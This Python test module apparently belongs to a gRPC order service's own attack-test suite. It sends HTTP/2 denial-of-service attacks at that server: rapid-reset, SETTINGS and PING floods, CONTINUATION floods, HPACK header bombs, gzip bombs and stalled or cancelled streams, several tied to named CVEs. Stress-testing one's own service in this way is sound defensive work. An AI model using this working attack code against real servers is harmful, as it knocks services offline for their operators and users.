"""Attacks by HTTP/2 streams: floods of frames, streams that are not read, calls that are cancelled."""

import asyncio
import zlib
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import suppress
from typing import Any

import grpc
from google.protobuf.message import Message
from grpc_health.v1 import health_pb2

from tests.attack.peers import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    ORDERS,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    STREAMS_PER_CONNECTION,
    WINDOW_UPDATE,
    call_status,
    endings,
    frame,
    header_block,
    literal,
    open_http2,
    open_stalled_clients,
    send_batches,
)
from tests.attack.registry import Kind, Responses, Target, attack
from tests.support.processes import FULFILLMENT
from tests.support.requests import create_order
from tests.support.stalled_client import HEALTH_WATCH, StalledClient
from wms.orders.v1 import orders_pb2

REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
_WATCH = orders_pb2.WatchOrdersRequest(position=0)


def _open_streams(
    clients: list[StalledClient], count: int, method: str, *requests: Message | bytes, more: bool = False
) -> None:
    """Open streams, as many on each connection as a server has to allow."""
    for number in range(count):
        client = clients[number // STREAMS_PER_CONNECTION]
        if not client.is_closed:
            client.call(method, *requests, more=more)


def _connections_for(streams: int) -> int:
    return -(-streams // STREAMS_PER_CONNECTION)


@attack(Kind.STREAMS, "streams", long=(1_000, 20), short=(200, 1))
async def watch_health_unread(target: Target, count: int, hold_seconds: float) -> Responses:
    """Health watches on server and worker whose window is closed."""
    watched = ((target.address, ""), (target.worker_address, FULFILLMENT))
    told: Responses = Counter()
    for address, service in watched:
        async with open_stalled_clients(address, _connections_for(count)) as clients:
            _open_streams(clients, count, HEALTH_WATCH, health_pb2.HealthCheckRequest(service=service))
            await asyncio.sleep(hold_seconds)
            told += endings(clients)
    return told


@attack(Kind.STREAMS, "streams", long=(7_000, 10), short=(700, 1))
async def open_health_and_reflection_streams(target: Target, count: int, hold_seconds: float) -> Responses:
    """Five of seven watch the health, the others have said nothing yet to reflection."""
    watches, reflections = count * 5 // 7, count * 2 // 7
    async with (
        open_stalled_clients(target.address, _connections_for(watches), 65_535) as watchers,
        open_stalled_clients(target.address, _connections_for(reflections), 65_535) as readers,
    ):
        _open_streams(watchers, watches, HEALTH_WATCH, health_pb2.HealthCheckRequest())
        _open_streams(readers, reflections, REFLECTION, more=True)
        await asyncio.sleep(hold_seconds)
        return endings([*watchers, *readers])


@attack(Kind.STREAMS, "streams", long=(1_000, 35), short=(200, 1))
async def watch_orders_unread(target: Target, count: int, hold_seconds: float) -> Responses:
    """Watches from the first event on, whose window is closed, while orders come."""
    async with (
        open_stalled_clients(target.address, _connections_for(count)) as clients,
        grpc.aio.insecure_channel(target.address) as channel,
    ):
        _open_streams(clients, count, f"{ORDERS}/WatchOrders", _WATCH)
        request = create_order().SerializeToString()
        for _ in range(max(1, int(hold_seconds / 0.1))):
            await call_status(channel, f"{ORDERS}/CreateOrder", request, 10)
            await asyncio.sleep(0.1)
        return endings(clients)


@attack(Kind.STREAMS, "streams", long=(200, 0), short=(60, 0))
async def leave_during_writes(target: Target, count: int, hold_seconds: float) -> Responses:
    """Watches and lists whose answer has begun; then the connection breaks."""
    for _ in range(0, count, 20):
        async with open_stalled_clients(target.address, 2, window_bytes=20) as clients:
            for client in clients:
                for _ in range(5):
                    client.call(f"{ORDERS}/WatchOrders", _WATCH)
                    client.call(f"{ORDERS}/ListOrders", orders_pb2.ListOrdersRequest())
            await asyncio.sleep(0.1 + hold_seconds)
            for client in clients:
                client.leave()
    return Counter({"left": count})


@attack(Kind.STREAMS, "resets", long=(320_000, 0), short=(10_000, 0))
async def reset_streams_rapidly(target: Target, count: int, hold_seconds: float) -> Responses:
    """Calls that are cancelled by the frame after that which opens them (CVE-2023-44487)."""
    block = header_block(f"{ORDERS}/GetOrder")
    cancel = (8).to_bytes(4, "big")

    def frames() -> Iterator[bytes]:
        for number in range(count // 6):
            stream = 2 * number + 1
            yield frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, cancel)

    async with open_http2(target.grpc_port, 6) as peers:
        sent = await asyncio.gather(*(send_batches(peer, frames()) for peer in peers))
        await asyncio.sleep(hold_seconds)
        return sum(sent, Counter())


async def _flood(target: Target, count: int, make_frame: Callable[[int], bytes]) -> Responses:
    """Send so many frames on four connections, each of which has a call open."""
    opening = frame(HEADERS, END_HEADERS, 1, header_block(f"{ORDERS}/GetOrder"))
    async with open_http2(target.grpc_port, 4) as peers:
        for peer in peers:
            await peer.send(opening)
        flood = (send_batches(peer, (make_frame(one) for one in range(count // 4))) for peer in peers)
        return sum(await asyncio.gather(*flood), Counter())


@attack(Kind.STREAMS, "frames", long=(1_000_000, 0), short=(200_000, 0))
async def flood_with_settings(target: Target, count: int, hold_seconds: float) -> Responses:
    """Each has to be acknowledged (CVE-2019-9515)."""
    return await _flood(target, count, lambda one: frame(SETTINGS, 0, 0, b"\0\3" + one.to_bytes(4, "big")))


@attack(Kind.STREAMS, "frames", long=(1_000_000, 0), short=(200_000, 0))
async def flood_with_pings(target: Target, count: int, hold_seconds: float) -> Responses:
    """Each has to be answered (CVE-2019-9512)."""
    return await _flood(target, count, lambda one: frame(PING, 0, 0, one.to_bytes(8, "big")))


@attack(Kind.STREAMS, "frames", long=(1_000_000, 0), short=(200_000, 0))
async def flood_with_small_frames(target: Target, count: int, hold_seconds: float) -> Responses:
    """Priorities, windows opened by a byte, empty data, acknowledgements of nothing (CVE-2019-9513, 9518)."""
    kinds = (
        frame(PRIORITY, 0, 1, (3).to_bytes(4, "big") + b"\1"),
        frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4, "big")),
        frame(DATA, 0, 1),
        frame(SETTINGS, ACK, 0),
    )
    return await _flood(target, count, lambda one: kinds[one % len(kinds)])


@attack(Kind.STREAMS, "MiB", long=(64, 0), short=(8, 0))
async def continue_headers_without_end(target: Target, count: int, hold_seconds: float) -> Responses:
    """Headers that go on and on in CONTINUATION frames (CVE-2024-27316)."""
    piece = literal(b"x-filling", b"x" * 16_000)
    opening = frame(HEADERS, 0, 1, header_block(f"{ORDERS}/GetOrder"))
    async with open_http2(target.grpc_port, 2) as peers:
        for peer in peers:
            await peer.send(opening)
        frames = [frame(CONTINUATION, 0, 1, piece)] * (count * 64 // len(peers))
        sent = await asyncio.gather(*(send_batches(peer, frames, batch=8) for peer in peers))
        return sum(sent, Counter())


@attack(Kind.STREAMS, "references", long=(1_900_000, 0), short=(1_900_000, 0))
async def send_header_bombs(target: Target, count: int, hold_seconds: float) -> Responses:
    """One byte refers to a header of 4 kB in the server's table (HPACK bomb, CVE-2016-6581).

    Ten times as many in a second do not hold, and no option that was tried bounds them (docs/operations.md).
    """
    stored = literal(b"x-bomb", b"x" * 3_900, indexed=True)
    # 62 is the newest entry of the table.
    bomb = header_block(f"{ORDERS}/GetOrder") + b"\xbe" * 15_000
    async with open_http2(target.grpc_port, 4) as peers:
        for peer in peers:
            block = header_block(f"{ORDERS}/GetOrder") + stored
            await peer.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block))
        each = count // 15_000 // len(peers) + 1
        bombs = [frame(HEADERS, END_HEADERS | END_STREAM, 2 * one + 3, bomb) for one in range(each)]
        sent = await asyncio.gather(*(send_batches(peer, bombs, batch=2) for peer in peers))
        return sum(sent, Counter())


@attack(Kind.STREAMS, "MiB", long=(512, 1), short=(64, 0.5))
async def send_gzip_bombs(target: Target, count: int, hold_seconds: float) -> Responses:
    """Three messages at once, each of which unfolds to so many MiB of zeros."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    zeros = b"\0" * 1024 * 1024
    packed = b"".join(packer.compress(zeros) for _ in range(count)) + packer.flush()
    async with open_stalled_clients(target.address, 3, 65_535) as clients:
        streams = [client.call(f"{ORDERS}/CreateOrder", more=True, encoding="gzip") for client in clients]
        sends = (
            client.upload(stream, len(packed), packed, is_compressed=True)
            for client, stream in zip(clients, streams, strict=True)
        )
        with suppress(TimeoutError):
            async with asyncio.timeout(20):
                await asyncio.gather(*sends)
        await asyncio.sleep(hold_seconds)
        return endings(clients)


@attack(Kind.STREAMS, "calls", long=(100_000, 0), short=(2_000, 0))
async def cancel_calls(target: Target, count: int, hold_seconds: float) -> Responses:
    """Orders whose caller leaves at once or a little later."""
    request = create_order().SerializeToString()
    async with grpc.aio.insecure_channel(target.address) as channel:
        create: Any = channel.unary_unary(f"{ORDERS}/CreateOrder")
        for number in range(0, count, 100):
            calls = [create(request) for _ in range(100)]
            await asyncio.sleep(0.001 * (number // 100 % 5))
            for call in calls:
                call.cancel()
            await asyncio.sleep(hold_seconds)
    return Counter({"cancelled": count})
